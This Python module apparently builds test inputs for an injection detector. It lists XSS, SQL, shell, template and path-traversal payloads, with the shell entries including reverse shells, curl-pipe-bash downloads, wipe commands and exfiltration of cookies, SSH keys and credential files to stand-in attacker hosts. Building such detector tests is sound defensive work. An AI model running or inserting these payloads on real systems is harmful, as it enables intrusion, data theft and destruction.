"""Payloads for the evaluation of `output_injection`, by sink, and honest code and prose that looks alike.

Written from how each sink is attacked, and not from the detector's table. Names, numbers and quotes are drawn.
"""

# ruff: noqa: E501 - templates read best on one line

from __future__ import annotations

import random
from collections.abc import Iterator
from urllib.parse import quote

ATTACKS: dict[str, tuple[str, ...]] = {
    "html": (
        "<script>alert({n})</script>", "<script>fetch('https://{h}/?c='+document.cookie)</script>", "<img src=x onerror=alert({n})>", "<svg/onload=alert`{n}`>", "<body onload=prompt({n})>",
        "\"><script src=//{h}/x.js></script>", "<a href=\"javascript:alert({n})\">{w}</a>", "<iframe src=javascript:alert({n})></iframe>", "<details open ontoggle=confirm({n})>", "<input autofocus onfocus=alert({n})>",
        "<math><mtext><img src onerror=alert({n})>", "<video><source onerror=\"eval('{w}')\">", "<object data=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\"></object>", "<form action=\"javascript:alert({n})\"><button>{w}</button></form>",
        "<meta http-equiv=refresh content=\"0;url=https://{h}/\">", "<base href=\"https://{h}/\">", "';alert({n})//", "<IMG SRC=\"jav&#x09;ascript:alert({n});\">", "<div onmouseover=\"document.location='https://{h}'\">{w}</div>", "<marquee onstart=alert({n})>{w}</marquee>",
        "<scr<script>ipt>alert({n})</scr</script>ipt>", "[{w}](javascript:alert({n}))", "<style>@import '//{h}/x.css';</style><script>eval(atob('{w}'))</script>", "<button onclick=\"fetch('//{h}',{{method:'POST',body:localStorage.token}})\">{w}</button>", "<img src=\"x\" onerror=\"window.location='http://{h}/?'+document.cookie\">",
        "<ScRiPt>prompt({n})</ScRiPt>", "%3Cscript%3Ealert({n})%3C/script%3E", "<embed src=\"javascript:alert({n})\">", "<svg><animate onbegin=alert({n}) attributeName=x></svg>", "<iframe srcdoc=\"<script>alert({n})</script>\"></iframe>",
    ),
    "sql": (
        "' OR '1'='1", "' OR {n}={n} --", "{w}'; DROP TABLE {t}; --", "{n} UNION SELECT {c}, password FROM {t}", "' UNION ALL SELECT NULL,NULL,version()--", "admin'--", "admin' #", "') OR ('{w}'='{w}", "\" OR \"\"=\"", "1; DELETE FROM {t} WHERE 1=1",
        "' AND SLEEP(5)-- -", "'; WAITFOR DELAY '0:0:5'--", "' AND (SELECT 1 FROM (SELECT COUNT(*),CONCAT(version(),FLOOR(RAND(0)*2))x FROM information_schema.tables GROUP BY x)a)-- ", "' OR EXISTS(SELECT * FROM {t} WHERE {c} LIKE '%a%') --", "{w}' AND 1=CONVERT(int,(SELECT @@version))--",
        "'; EXEC xp_cmdshell('dir'); --", "' INTO OUTFILE '/{v}/www/{w}.php' -- ", "1' ORDER BY {n}-- -", "' HAVING 1=1--", "' || (SELECT password FROM {t} LIMIT 1) || '", "1 OR 1=1", "x' AND email IS NULL; --", "'; UPDATE {t} SET role='admin' WHERE {c}={n};--", "' UNION/**/SELECT/**/{c}/**/FROM/**/{t}--",
        "'; INSERT INTO {t} VALUES ('{w}','admin');--", "1 AND pg_sleep(5)", "' AND extractvalue(1,concat(0x7e,version()))--", "' AND ASCII(SUBSTRING((SELECT password FROM {t} LIMIT 1),1,1))>{n}--", "{n}; SHUTDOWN --", "' OR 'x' LIKE 'x",
    ),
    "shell": (
        "; cat /etc/passwd", "| whoami", "$(curl http://{h}/{w}.sh | bash)", "`id`", "&& rm -rf / --no-preserve-root", "{w}.txt; nc -e /bin/sh {h} {n}", "; wget http://{h}/{w} -O /tmp/{w} && chmod +x /tmp/{w} && /tmp/{w}", "|| ping -c 10 {h}", "; bash -i >& /dev/tcp/{h}/{n} 0>&1", "$(cat ~/.ssh/id_rsa | base64)",
        "'; curl -d @/etc/shadow https://{h} #", "| tee /etc/cron.d/{w}", "\nid\n", "; python3 -c 'import os;os.system(\"id\")'", "; sleep 10;", "& net user {w} Passw0rd /add", "| nslookup {h}", "$(rm -rf ~)", "; echo {w} >> ~/.ssh/authorized_keys", "`wget -qO- http://{h}/x|sh`",
        "; sudo rm -rf /{v}/www", "a;uname -a", "; env | curl -X POST --data-binary @- http://{h}", "|cat${{IFS}}/etc/passwd", "; mkfifo /tmp/{w}; nc {h} {n} < /tmp/{w} | /bin/sh > /tmp/{w}", "; perl -e 'exec \"/bin/sh\"'", "& powershell -enc SQBFAFgA", "; history -c; shutdown -h now", "$(printenv AWS_SECRET_ACCESS_KEY)", ";{{cat,/etc/passwd}}",
    ),
    "template": (
        "{{{{7*7}}}}", "${{7*7}}", "<%= 7*7 %>", "#{{7*7}}", "{{{{config}}}}", "{{{{config.items()}}}}", "{{{{''.__class__.__mro__[1].__subclasses__()}}}}", "{{{{self.__init__.__globals__.__builtins__}}}}", "{{{{request.application.__globals__['os'].popen('id').read()}}}}", "{{% for x in ().__class__.__base__.__subclasses__() %}}{{{{x}}}}{{% endfor %}}",
        "${{T(java.lang.Runtime).getRuntime().exec('id')}}", "<#assign ex='freemarker.template.utility.Execute'?new()>${{ex('id')}}", "{{{{cycler.__init__.__globals__.os.popen('{w}').read()}}}}", "<%= system('id') %>", "#set($x='')#set($rt=$x.class.forName('java.lang.Runtime'))", "{{{{constructor.constructor('alert({n})')()}}}}", "${{jndi:ldap://{h}/{w}}}", "{{php}}echo `id`;{{/php}}", "*{{T(java.lang.System).getenv()}}", "{{{{lipsum.__globals__['os'].popen('id').read()}}}}",
        "<%= `id` %>", "@(1+{n})", "{{{{ {n} * {n} }}}}", "{{{{_self.env.registerUndefinedFilterCallback('exec')}}}}", "{{{{settings.SECRET_KEY}}}}", "{{{{ url_for.__globals__ }}}}", "${{{{<%[%'\"}}}}%\\", "{{{{['id']|filter('system')}}}}", "<%= File.open('/etc/passwd').read %>", "{{{{ get_flashed_messages.__globals__ }}}}",
    ),
    "path": (
        "../../../../etc/passwd", "..\\..\\..\\windows\\win.ini", "/etc/shadow", "....//....//etc/passwd", "%2e%2e%2f%2e%2e%2fetc%2fpasswd", "..%252f..%252fetc/passwd", "../../{w}/../.env", "file:///etc/passwd", "php://filter/convert.base64-encode/resource=index.php", "../../../{w}.php%00.png",
        "{d}:\\Windows\\System32\\drivers\\etc\\hosts", "/proc/self/environ", "~/.ssh/id_rsa", "/{v}/www/../../etc/passwd", "..%c0%af..%c0%afetc/passwd", "/{a}/.bash_history", "\\\\{h}\\share\\{w}", "images/../../../{w}/config.yml", "..;/..;/manager/html", "../../.git/config",
        "/home/{w}/.aws/credentials", "..\\..\\..\\..\\boot.ini", "/etc/kubernetes/admin.conf", "/../../../../../{w}", "zip://../../{w}.zip#x.php", "%2e%2e\\%2e%2e\\{w}", "data://text/plain;base64,PD9waHA=", "/proc/1/cmdline", "../../../../../../var/log/auth.log", "expect://id",
    ),
}  # fmt: skip
FRAMES = (
    "{}",
    "Here is the value: {}",
    "name={}",
    "The result is\n{}\nas you asked.",
    '{{"value": "{}"}}',
    "Use `{}` as the input.",
)
HOSTS = ("evil.test", "203.0.113.9", "x.collect.test", "attacker.example")
WORDS = ("report", "user", "abc", "demo", "shell", "temp", "order")
TABLES = ("users", "accounts", "orders", "members")
COLUMNS = ("id", "name", "username", "email")
PLACES = {"a": "root", "v": "var", "d": "C"}
"""The first step of paths that stand for any machine's, so that none stands here."""


def payloads(draw: random.Random, *, each: int) -> Iterator[tuple[str, str]]:
    """So many payloads for each sink, as they are or inside a sentence: the sink and the text."""
    for sink, forms in ATTACKS.items():
        for nth in range(each):
            text = forms[nth % len(forms)].format(
                n=draw.randint(1, 9999),
                h=draw.choice(HOSTS),
                w=draw.choice(WORDS),
                t=draw.choice(TABLES),
                c=draw.choice(COLUMNS),
                **PLACES,
            )
            if sink in ("sql", "path") and draw.random() < 0.1:
                text = quote(text)
            elif sink in ("sql", "html") and draw.random() < 0.15:
                text = "".join(char.upper() if draw.random() < 0.5 else char.lower() for char in text)
            yield sink, draw.choice(FRAMES).replace("{}", text) if draw.random() < 0.6 else text
